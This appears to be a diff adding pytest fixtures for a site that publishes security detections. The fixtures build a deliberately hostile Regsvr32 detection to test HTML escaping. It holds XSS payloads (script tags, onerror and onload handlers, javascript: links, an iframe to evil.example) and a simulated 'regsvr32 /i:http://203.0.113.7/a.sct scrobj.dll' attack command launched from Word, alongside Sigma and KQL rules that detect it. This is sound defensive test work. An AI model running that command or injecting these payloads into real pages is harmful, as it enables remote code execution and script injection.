@@ -1,0 +1,229 @@
+"""Fixtures for the site tests: the CMSTP site built once per session, hostile detections, an HTML inspector."""
+
+from __future__ import annotations
+
+import datetime as dt
+import json
+import shutil
+from dataclasses import dataclass, field
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+from tests.conftest import DETECTIONS
+
+from assay.catalog.loader import load_catalog
+from assay.site.builder import SiteBuild, build_site
+
+CMSTP_FOLDER = DETECTIONS / "T1218.003-cmstp"
+CMSTP_ID = "5c191f9c-ff71-48e7-bebb-1f04e3d6e3f8"
+CMSTP_SLUG = "t1218.003-cmstp"
+BUILD_TIME = dt.datetime(2026, 11, 28, 10, 0, tzinfo=dt.UTC)
+
+
+@dataclass
+class ParsedPage:
+    """What the tests look at in a page: ids, links, resources, text, and elements by tag."""
+
+    ids: set[str] = field(default_factory=set)
+    links: list[str] = field(default_factory=list)
+    resources: list[tuple[str, str]] = field(default_factory=list)
+    text: list[str] = field(default_factory=list)
+    title: str = ""
+    tags: list[tuple[str, dict[str, str]]] = field(default_factory=list)
+
+    @property
+    def all_text(self) -> str:
+        return " ".join(" ".join(self.text).split())
+
+
+class _Collector(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.page = ParsedPage()
+        self._in_title = False
+        self._skip = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        values = {name: value or "" for name, value in attrs}
+        self.page.tags.append((tag, values))
+        if "id" in values:
+            self.page.ids.add(values["id"])
+        if tag == "a" and "href" in values:
+            self.page.links.append(values["href"])
+        for attribute in ("src", "href"):
+            if attribute in values and tag in ("script", "link", "img", "iframe", "source", "video", "audio"):
+                self.page.resources.append((tag, values[attribute]))
+        if tag == "title":
+            self._in_title = True
+        if tag in ("script", "style"):
+            self._skip += 1
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "title":
+            self._in_title = False
+        if tag in ("script", "style"):
+            self._skip -= 1
+
+    def handle_data(self, data: str) -> None:
+        if self._in_title:
+            self.page.title += data
+        if not self._skip:
+            self.page.text.append(data)
+
+
+def parse_page(path: Path) -> ParsedPage:
+    collector = _Collector()
+    collector.feed(path.read_text(encoding="utf-8"))
+    collector.close()
+    return collector.page
+
+
+@pytest.fixture(scope="session")
+def cmstp_site(tmp_path_factory: pytest.TempPathFactory) -> SiteBuild:
+    """The whole catalog's site, built once without a proof report (every result 'not yet run')."""
+    out = tmp_path_factory.mktemp("site") / "public"
+    return build_site(load_catalog(DETECTIONS), out, now=BUILD_TIME)
+
+
+HOSTILE_TITLE = 'Regsvr32 <script>alert("title")</script> Squiblydoo <img src=x onerror=alert(1)>'
+HOSTILE_DESCRIPTION = (
+    "Adversaries may abuse Regsvr32.exe to proxy execution of malicious code </p><script>document.title='owned'"
+    "</script><a href=\"javascript:alert(2)\">click</a> & load scrobj.dll with a remote .sct."
+)
+
+HOSTILE_DETECTION_YML = f"""\
+id: 0b7d1f0e-3c1a-4f43-9d55-2f8e6a9c4b21
+title: {json.dumps(HOSTILE_TITLE)}
+description: {json.dumps(HOSTILE_DESCRIPTION)}
+technique: T1218.010
+severity: critical
+confidence: medium
+status: experimental
+data_sources:
+  - "Process: Process Creation <b>bold</b>"
+required_tables:
+  - DeviceProcessEvents
+explanation: "Flags regsvr32.exe /i:http with scrobj.dll <iframe src=//evil.example></iframe>"
+false_positives:
+  - "Software installers registering COM servers <style>body{{display:none}}</style>"
+tuning: "Exclude signed installers by InitiatingProcessFolderPath, never by name."
+response:
+  - title: "Isolate <svg onload=alert(3)>"
+    action: "Isolate the device in Defender for Endpoint and collect the .sct file."
+    phase: containment
+investigation: "Check the URL passed to /i: and the child processes of regsvr32.exe </div></main>"
+hunting:
+  - title: "Regsvr32 network connections <script>"
+    purpose: "Find regsvr32.exe talking to the internet."
+    query: |-
+      DeviceNetworkEvents
+      | where InitiatingProcessFileName =~ "regsvr32.exe" and RemoteUrl has "</script><script>alert(4)</script>"
+    tables: [DeviceNetworkEvents]
+references:
+  - https://attack.mitre.org/techniques/T1218/010/
+related:
+  - {CMSTP_ID}
+  - 9f1c7a52-41d4-4be8-9a1e-0c2d5f6b7e80
+author: "Red <Team> & Co"
+created: 2026-11-01
+modified: 2026-11-02
+"""
+
+HOSTILE_KQL = """\
+DeviceProcessEvents
+| where FileName =~ "regsvr32.exe"
+| where ProcessCommandLine has_all ("/i:http", "scrobj.dll") or ProcessCommandLine has "<script>alert(5)</script>"
+"""
+
+HOSTILE_SIGMA = """\
+title: Regsvr32 Squiblydoo <script>alert(6)</script>
+id: 7d2f4b1a-6e3c-4b8d-9a0f-1c2e3d4f5a6b
+status: experimental
+description: Regsvr32 loading a remote scriptlet </textarea><script>alert(7)</script>
+author: Red <Team>
+date: 2026-11-01
+tags:
+    - attack.defense-evasion
+    - attack.t1218.010
+logsource:
+    category: process_creation
+    product: windows
+detection:
+    selection:
+        Image|endswith: '\\regsvr32.exe'
+        CommandLine|contains|all:
+            - '/i:http'
+            - 'scrobj.dll'
+    condition: selection
+level: critical
+"""
+
+HOSTILE_TESTS = """\
+scenarios:
+  - id: squiblydoo-remote-sct
+    title: "Squiblydoo <script>alert(8)</script> from Word"
+    kind: attack
+    provenance:
+      own: "Written to check escaping: <b>not bold</b>"
+    expected:
+      sigma: fires
+      kql: fires
+    expected_telemetry:
+      - "Sysmon EID 1 regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll <script>"
+    activity:
+      host:
+        name: WS-FIN-0211
+        domain: corp.contoso.com
+      user:
+        domain: CORP
+        name: j.doe
+        sid: S-1-5-21-3623811015-3361044348-30300820-1013
+      start: 2026-11-01T08:30:00Z
+      processes:
+        - id: regsvr32
+          image: C:\\Windows\\System32\\regsvr32.exe
+          command_line: regsvr32.exe /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll
+          parent_image: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE
+          parent_command_line: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\j.doe\\Downloads\\invoice.docm"'
+  - id: installer-registers-com-server
+    title: Installer registering a local COM server
+    kind: benign
+    provenance:
+      false_positive:
+        index: 1
+    expected:
+      sigma: does-not-fire
+      kql: does-not-fire
+    activity:
+      host:
+        name: WS-FIN-0211
+      user:
+        domain: CORP
+        name: j.doe
+        sid: S-1-5-21-3623811015-3361044348-30300820-1013
+      start: 2026-11-01T09:00:00Z
+      processes:
+        - id: regsvr32
+          image: C:\\Windows\\System32\\regsvr32.exe
+          command_line: regsvr32.exe /s "C:\\Program Files\\Contoso\\Viewer\\viewer.dll"
+          parent_image: C:\\Windows\\System32\\msiexec.exe
+          parent_command_line: C:\\Windows\\system32\\msiexec.exe /V
+"""
+
+
+def write_hostile_detection(root: Path, folder_name: str = "T1218.010-regsvr32") -> Path:
+    """A detection whose texts are full of HTML and script, in ``root/folder_name``."""
+    folder = root / folder_name
+    folder.mkdir(parents=True)
+    (folder / "detection.yml").write_text(HOSTILE_DETECTION_YML, encoding="utf-8")
+    (folder / "sentinel.kql").write_text(HOSTILE_KQL, encoding="utf-8")
+    (folder / "rule.sigma.yml").write_text(HOSTILE_SIGMA, encoding="utf-8")
+    (folder / "tests.yml").write_text(HOSTILE_TESTS, encoding="utf-8")
+    return folder
+
+
+def copy_cmstp(root: Path, folder_name: str = "T1218.003-cmstp") -> Path:
+    target = root / folder_name
+    shutil.copytree(CMSTP_FOLDER, target)
+    return target
